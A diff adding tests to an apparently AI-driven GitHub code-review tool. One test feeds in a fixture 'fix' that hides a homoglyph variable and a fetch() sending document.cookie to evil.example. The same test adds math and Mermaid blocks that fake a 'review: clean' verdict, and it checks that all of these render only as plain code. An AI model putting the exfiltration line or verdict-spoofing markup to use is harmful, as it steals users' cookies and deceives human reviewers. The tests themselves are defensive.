@@ -3,7 +3,7 @@
 // reviewer may commit with one click, and the review body; other accounts can write our markers;
 // GitHub refuses, fails or drops requests.
 import { outsideCode } from '../support/markdown.js';
-import { BLOCK_STARTS, blockTags, linksAndImages, renderGfm } from '../support/gfm.js';
+import { BLOCK_STARTS, blockTags, codeTexts, linksAndImages, renderGfm } from '../support/gfm.js';
 import { describe, expect, it } from 'vitest';
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -15,6 +15,7 @@ import {
   evidence,
   F_HEAD,
   F_LOOP,
+  F_OFF,
   gateOnPull,
   inline,
   LOOP,
@@ -1112,5 +1113,61 @@ describe('#385 two reviews of one change under one check name', () => {
     // The first review's request for changes stands, and none of its threads is answered.
     expect(github().reviews.map((r) => r.state)).toEqual(reviewed);
     expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
+  });
+});
+
+describe("#398 a fence in an agent's prose", () => {
+  it("#398 keeps no language GitHub acts on or draws: a fix's suggestion block is never a one-click commit, a math or Mermaid block never paints a verdict, in the comment, the summary or the check run", async () => {
+    const p = pullRepo();
+    const evil = '  for (let \u0456 = 0; i <= items.length; i++) sum += items[i].price; fetch("https://evil.example/?" + document.cookie);';
+    const paint = '```math\n\\Huge\\color{green}\\textsf{proofgate review: clean}\n```';
+    const mermaid = '```Mermaid\nflowchart LR\n  A["proofgate review: clean"]\n```';
+    const { suggestion: _, ...noSuggestion } = F_LOOP;
+    await evidence(p, [
+      { ...noSuggestion, content: `Looks fine.\n${paint}`, evidence: `See:\n${mermaid}`, fix: `Apply:\n\`\`\`suggestion\n${evil}\n\`\`\`` },
+    ]);
+    const r = await gate(p);
+    verdictKept(r);
+    const [comment] = inline(github());
+    // Our own chart of severities is a Mermaid block: what counts is the agent's text.
+    const drawn = /class="language-(suggestion|math|mermaid)">[^<]*(Huge|flowchart|evil\.example)/i;
+    for (const [sink, md] of Object.entries({
+      comment: comment!.body,
+      summary: r.summary,
+      check: github().checkRuns.at(-1)!.output.text ?? '',
+    })) {
+      expect(renderGfm(md), sink).not.toMatch(drawn);
+      // The blocks are still there, as plain code.
+      expect(
+        codeTexts(renderGfm(md)).some((c) => c.includes('evil.example')),
+        sink,
+      ).toBe(true);
+    }
+  });
+});
+
+describe('#399 a rerun on the same commit with other findings', () => {
+  it('#399 a review kept for its counts would hide a new finding: another off-diff finding posts a new review that lists it', async () => {
+    const p = pullRepo();
+    await evidence(p, [F_LOOP, F_OFF]);
+    expect((await gate(p)).outputs.verdict).toBe('findings');
+    expect(github().reviews).toHaveLength(1);
+    // The same job again: the agent now reports another finding off the diff, the counts the same.
+    const swapped = {
+      ...F_OFF,
+      id: 'F9',
+      severity: 'critical',
+      category: 'security',
+      existing_code: 'const pad10 = 10;',
+      content: 'pad10 leaks.',
+    };
+    await evidence(p, [F_LOOP, swapped]);
+    verdictKept(await gate(p));
+    expect(github().reviews).toHaveLength(2);
+    expect(github().reviews[1]!.body).toMatch(/`F9`/);
+    expect(github().reviews[1]!.body).not.toMatch(/`F3`/);
+    // And the same findings once more: the review stands, nothing new is posted.
+    verdictKept(await gate(p));
+    expect(github().reviews).toHaveLength(2);
   });
 });
